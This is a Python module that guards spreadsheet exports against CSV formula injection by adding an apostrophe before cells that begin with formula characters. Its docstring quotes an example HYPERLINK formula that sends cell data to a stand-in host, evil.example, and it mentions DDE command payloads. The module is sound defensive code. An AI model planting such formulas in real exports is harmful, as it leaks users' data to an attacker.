"""CSV cells that are safe to open in a spreadsheet: the one place every CSV the product writes goes through.

Company data is untrusted. A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return, which some spreadsheets skip before reading one of those) is run as a formula by Excel,
LibreOffice and Google Sheets when the file is opened: ``=HYPERLINK("https://evil.example?"&A1, "…")``
leaks data, and DDE payloads run commands. Such text cells get a leading apostrophe, which the
spreadsheet shows as text (OWASP's "CSV injection" guidance). Numbers written as numbers (and text
that is nothing but a number, such as ``-12.5``) are left alone, so negative values stay numeric.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralize_formula(text: str) -> str:
    """``text`` as a spreadsheet will show it rather than run it: an apostrophe before a formula prefix."""
    if text.startswith(FORMULA_PREFIXES) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_cell(value: Any, shown: str | None = None) -> str:
    """One CSV cell for ``value`` (written as ``shown`` when given): numbers as they are, text neutralised."""
    text = ("" if value is None else str(value)) if shown is None else shown
    if isinstance(value, (int, float, Decimal)) and not isinstance(value, bool):
        return text
    return neutralize_formula(text)


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """A whole CSV document (header row, then one row per item) with every cell made safe."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow([neutralize_formula(h) for h in header])
    for row in rows:
        writer.writerow([csv_cell(value) for value in row])
    return buffer.getvalue()
